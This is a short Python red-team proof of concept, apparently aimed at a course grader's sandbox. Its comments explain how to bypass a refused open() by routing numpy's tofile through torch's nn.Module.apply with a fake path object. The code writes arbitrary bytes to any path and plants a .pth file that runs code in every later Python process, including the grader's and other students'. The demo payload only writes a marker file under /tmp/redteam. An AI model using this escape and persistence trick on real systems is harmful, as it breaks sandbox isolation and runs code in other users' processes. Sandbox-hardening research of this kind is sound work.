# attack_4: arbitrary bytes to an arbitrary path although open() is refused.
# A tensor's .numpy() is a real numpy.ndarray; ndarray.tofile(path) writes its raw bytes. Called
# straight from the file it fails (numpy looks up `open` in the calling frame's builtins: the
# restricted ones), so let torch's own Python call it: nn.Module.apply(fn) calls fn(module) from
# torch's frame (real builtins), and the module is os.PathLike via __fspath__.
# A .pth file in a site-packages directory runs its `import` lines in every later Python process
# (the grader's next run, other students'). Demonstrated on /tmp/redteam/sp (site.addsitedir).
# torch.save(obj, any_path) writes anywhere too. Lab: any (ddp shown).
import torch

PAYLOAD = "import os; open('/tmp/redteam/PWNED_BY_PTH', 'w').write(str(os.getpid()))\n"
TARGET = "/tmp/redteam/sp/zz_attack.pth"


class Path(torch.nn.Module):
    def __fspath__(self):
        return TARGET


data = torch.tensor(list(PAYLOAD.encode()), dtype=torch.uint8).numpy()
Path().apply(data.tofile)
torch.save({"x": 1}, "/tmp/redteam/sp/anywhere.pt")
LEAK_written = True
